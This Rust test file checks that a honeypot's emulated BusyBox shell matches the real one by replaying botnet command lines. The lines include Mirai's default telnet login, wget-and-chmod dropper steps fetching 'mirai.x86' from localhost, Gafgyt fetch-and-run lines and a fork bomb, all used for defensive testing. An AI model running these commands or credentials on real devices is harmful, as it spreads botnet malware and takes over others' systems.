//! Command lines bots send, run in busybait's `oracle` profile and in the real BusyBox
//! 1.35 ash behind a real telnetd in the oracle sandbox; whole byte streams compared.
//!
//! The lines: every command of the Mirai loader transcript (reference §3.7), the
//! Satori and Gafgyt cues, and more of our own. Lines whose output is host-specific
//! (`ps`, `/proc/cpuinfo`, the bytes of the busybox binary past its header) are left to
//! the fidelity issue's normalising corpus.

#![allow(
    clippy::indexing_slicing,
    clippy::unwrap_used,
    clippy::expect_used,
    clippy::panic,
    clippy::print_stdout
)]

mod util;

use std::time::Duration;

use util::oracle::{differential, read_until, Runs, Transcript, Wire};

const MIRAI_REPLY: &[u8] =
    b"\xff\xfc\x01\xff\xfb\x1f\xff\xfa\x1f\x00\x50\x00\x18\xff\xf0\xff\xfd\x01\xff\xfd\x03";

/// Logs in, then sends each line and waits for the next prompt's `ESC [6n`.
/// Returns everything after the login.
fn session(w: &mut dyn Wire, lines: &[&str]) -> Transcript {
    let mut buf = Vec::new();
    w.write_all(MIRAI_REPLY).unwrap();
    read_until(w, &mut buf, b"login: ", Duration::from_secs(5));
    w.write_all(b"root\r\n").unwrap();
    read_until(w, &mut buf, b"Password: ", Duration::from_secs(5));
    w.write_all(b"xc3511\r\n").unwrap();
    read_until(w, &mut buf, b"\x1b[6n", Duration::from_secs(5));
    let mut all = Vec::new();
    for line in lines {
        w.write_all(line.as_bytes()).unwrap();
        w.write_all(b"\r\n").unwrap();
        let (b, closed) = read_until(w, &mut buf, b"\x1b[6n", Duration::from_secs(10));
        all.extend(b);
        if closed {
            return (all, true);
        }
    }
    (all, false)
}

fn cases() -> Vec<(&'static str, Vec<&'static str>)> {
    let kami = |p: &'static str| -> &'static str {
        Box::leak(
            format!("/bin/busybox echo -e '\\x6b\\x61\\x6d\\x69{p}' > {p}/.nippon; /bin/busybox cat {p}/.nippon; /bin/busybox rm {p}/.nippon")
                .into_boxed_str(),
        )
    };
    vec![
        // Mirai scanner and loader (§1.5, §3.2, §3.7).
        ("mirai-scanner", vec!["enable", "system", "shell", "sh", "/bin/busybox MIRAI"]),
        ("mirai-loader-burst", vec!["enable\r\nshell\r\nsh", "/bin/busybox ECCHI"]),
        ("mirai-kami-var", vec![kami("/var")]),
        ("mirai-kami-proc", vec![kami("/proc")]),
        ("mirai-kami-dev", vec![kami("/dev")]),
        ("mirai-kami-tmp", vec![kami("/tmp")]),
        ("mirai-kami-nonexistent", vec![kami("/nonexist")]),
        ("mirai-cleanup-probes", vec!["rm /var/.t; rm /var/.sh; rm /var/.human"]),
        (
            "mirai-copy-echo",
            vec!["cd /var/", "/bin/busybox cp /bin/echo dvrHelper; >dvrHelper; /bin/busybox chmod 777 dvrHelper; /bin/busybox ECCHI", "ls -l dvrHelper | cut -c1-10"],
        ),
        ("mirai-elf-header", vec!["/bin/busybox dd if=/bin/echo bs=20 count=1 2>/dev/null | od -An -tx1"]),
        ("mirai-upload-probe", vec!["/bin/busybox wget; /bin/busybox tftp; /bin/busybox ECCHI"]),
        ("mirai-wget", vec!["cd /tmp", "/bin/busybox wget http://127.0.0.1:80/bins/mirai.x86 -O - > dvrHelper; /bin/busybox chmod 777 dvrHelper; /bin/busybox ECCHI"]),
        (
            "mirai-echo-dropper",
            vec![
                "cd /tmp",
                "/bin/busybox cp /bin/echo dvrHelper; >dvrHelper; /bin/busybox chmod 777 dvrHelper; /bin/busybox ECCHI",
                "/bin/busybox cp dvrHelper upnp; > upnp; /bin/busybox chmod 777 upnp; /bin/busybox ECCHI",
                "echo -ne '\\x7f\\x45\\x4c\\x46\\x01\\x01\\x01\\x00\\x00\\x00\\x00\\x00' > upnp; /bin/busybox ECCHI",
                "echo -ne '\\x02\\x00\\x28\\x00\\x01\\x00\\x00\\x00' >> upnp; /bin/busybox ECCHI",
                "wc -c upnp; ls -l upnp | cut -c1-10",
                "rm -rf upnp; > dvrHelper; /bin/busybox ECCHI",
            ],
        ),
        ("mirai-exec-token", vec!["/bin/busybox IHCCE"]),
        // Satori (§5.2).
        ("satori-token", vec!["/bin/busybox SATORI"]),
        ("satori-method-probe", vec!["/bin/busybox wget; /bin/busybox tftp; /bin/busybox HGYQA"]),
        ("satori-arch-probe", vec!["/bin/busybox dd if=/bin/busybox bs=22 count=1 2>/dev/null | od -An -tx1"]),
        ("satori-mounts-token", vec!["/bin/busybox DMSNA"]),
        ("satori-writable-dir", vec!["/bin/busybox mkdir /tmp/x; >/tmp/x.file && cd /tmp/x", "pwd"]),
        // Gafgyt (§5.2 and the real session), one piece at a time.
        ("gafgyt-cd-chain", vec!["cd /tmp || cd /var/run || cd /mnt || cd /root || cd /; pwd"]),
        ("gafgyt-wget", vec!["cd /tmp; wget http://127.0.0.1/z.sh; echo rc=$?"]),
        ("gafgyt-curl", vec!["curl -O http://127.0.0.1/z.sh"]),
        ("gafgyt-chmod-missing", vec!["chmod 777 z.sh; echo rc=$?"]),
        ("gafgyt-sh-missing", vec!["sh z.sh; echo rc=$?"]),
        ("gafgyt-rm", vec!["rm -rf z.sh tz.sh tz2.sh z1.sh; echo rc=$?"]),
        ("gafgyt-probe", vec!["echo -e '\\147\\141\\171\\146\\147\\164'"]),
        ("gafgyt-busybox-probe", vec!["/bin/busybox;echo -e '\\147\\141\\171\\146\\147\\164'"]),
        // Our own.
        ("echo-escapes", vec!["echo -ne '\\x41\\x42\\103'; echo", "echo -e 'a\\tb\\0101'", "echo -n x; echo y", "echo -e 'x\\cy'; echo", "echo -E '\\x41' -n"]),
        ("echo-options-as-text", vec!["echo -x -n a", "echo - a", "echo -- a"]),
        ("printf", vec!["printf '%s-%d\\n' ab 12", "printf '%5s|%-3s|\\n' a b"]),
        ("arith", vec!["echo $((1+2)) $((7/2)) $((1<<3)) $((10%3)) $((-5+2))"]),
        ("params", vec!["X=abc; echo ${X} ${#X} ${Y:-def} ${Z:=zz} $Z", "set -- a b c; echo $# $1 $3"]),
        ("for-loop", vec!["for i in a b c; do echo $i; done"]),
        (
            "break-continue",
            vec!["for i in 1 2 3; do for j in a b c; do [ $j = b ] && continue; [ $i = 2 ] && continue 2; [ $i = 3 ] && break 2; echo $i$j; done; echo end$i; done; echo out"],
        ),
        ("if-elif", vec!["if false; then echo no; elif true; then echo yes; else echo x; fi"]),
        ("subshell-status", vec!["(exit 3); echo $?", "(cd /tmp; pwd); pwd"]),
        ("and-or", vec!["true && echo t || echo f; false || echo f2; false && echo no; echo $?"]),
        ("while-read", vec!["echo one > /tmp/l; echo two >> /tmp/l; while read x; do echo \"[$x]\"; done < /tmp/l"]),
        ("redirections", vec!["echo hi > /tmp/f; cat /tmp/f; echo more >> /tmp/f; cat /tmp/f; wc -l /tmp/f", "echo err >&2", "cat /nonexist 2>/dev/null; echo rc=$?"]),
        ("pipes", vec!["echo a | cat", "echo hello | tr a-z A-Z", "printf 'b\\na\\nb\\n' | sort | uniq -c"]),
        ("substitution", vec!["echo $(echo sub) `echo bt` \"$(echo 'q d')\""]),
        ("quoting", vec!["echo \"a b\"c'd e' \\$x", "echo 'a\"b' \"c'd\""]),
        ("errors", vec!["cd /nonexist", "cat /nonexist", "foo", "./foo", "rm /var/.t", "rm -rf /var/nothing; echo rc=$?"]),
        ("kill-missing", vec!["kill -9 99999; echo rc=$?"]),
        ("killall-missing", vec!["killall foo; echo rc=$?"]),
        ("nc-refused", vec!["nc 127.0.0.1 9; echo rc=$?"]),
        ("mkdir-rmdir", vec!["mkdir /tmp/d; mkdir /tmp/d", "rmdir /tmp/nonexist", "rmdir /tmp/d; echo rc=$?"]),
        ("mv-cp-missing", vec!["cp /nonexist /tmp/x", "mv /nonexist /tmp/x"]),
        ("uname", vec!["uname -m; uname -s; uname -n"]),
        ("identity", vec!["id; whoami; hostname"]),
        ("syntax-errors", vec!["fi", "echo a; fi", ";", ":(){ :|:& };:"]),
        ("cut-grep", vec!["printf 'b:2\\na:1\\n' > /tmp/f; cut -d: -f2 /tmp/f; grep a /tmp/f; grep -c b /tmp/f; grep zz /tmp/f; echo rc=$?"]),
        ("head-tail-wc", vec!["printf '1\\n2\\n3\\n' > /tmp/n; head -n 2 /tmp/n; tail -n 1 /tmp/n; wc -c /tmp/n; head -c 3 /tmp/n; echo"]),
        ("nested-sh-errors", vec!["sh", "foo", "exit", "foo"]),
        ("test-brackets", vec!["[ -d /tmp ] && echo dir; [ -f /nonexist ] || echo nofile; test 1 -lt 2; echo $?", "[ a = b ]; echo $?"]),
    ]
}

#[test]
fn bot_command_lines_match_real_busybox() {
    let cases = cases();
    assert!(cases.len() >= 50);
    let mismatches = differential("shell", &cases, 600, Runs::Deterministic, |w, lines| {
        session(w, lines)
    });
    assert!(mismatches.is_empty(), "{}", mismatches.join("\n"));
}
